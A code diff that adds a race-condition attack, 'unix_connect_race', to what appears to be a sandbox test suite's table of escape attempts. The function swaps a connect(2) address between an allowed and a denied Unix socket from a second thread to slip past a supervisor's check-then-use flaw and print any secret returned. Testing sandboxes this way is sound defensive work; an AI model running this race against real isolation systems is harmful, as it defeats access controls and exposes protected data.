@@ -113,6 +113,46 @@ def unix_connect(path):
     sys.stdout.buffer.write(s.recv(64))
 
 
+def unix_connect_race(allowed, denied, tries="3000"):
+    """connect(2) with an address that another thread keeps switching
+    between an allowed socket and a denied one: a supervisor that checked
+    the address and let the kernel read it again would connect to the
+    denied one now and then.  Works when the denied socket answers."""
+    import threading
+
+    def address(path):
+        raw = struct.pack("=H", socket.AF_UNIX) + path.encode() + b"\0"
+        return raw.ljust(110, b"\0")
+
+    good, bad = address(allowed), address(denied)
+    buf = ctypes.create_string_buffer(good, 110)
+    libc.connect.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
+    done = threading.Event()
+
+    def switch():
+        while not done.is_set():
+            ctypes.memmove(buf, bad, 110)
+            ctypes.memmove(buf, good, 110)
+
+    thread = threading.Thread(target=switch)
+    thread.start()
+    refused = 0
+    try:
+        for _ in range(int(tries)):
+            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+                if libc.connect(s.fileno(), buf, 110) != 0:
+                    refused = ctypes.get_errno()
+                    continue
+                got = s.recv(64)
+                if b"SECRET" in got:
+                    sys.stdout.buffer.write(got)
+                    return
+    finally:
+        done.set()
+        thread.join()
+    raise OSError(refused or errno.ENOENT, "the denied socket never answered")
+
+
 def unshare(flag):
     flags = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000}
     check(libc.unshare(flags[flag]))
@@ -207,6 +247,7 @@ ATTACKS = {
     "kill": lambda pid: os.kill(pid_of(pid), signal.SIGTERM),
     "abstract-connect": abstract_connect,
     "unix-connect": unix_connect,
+    "unix-connect-race": unix_connect_race,
     "unshare": unshare,
     "clone-newuser": clone_newuser,
     "clone3-newuser": clone3_newuser,
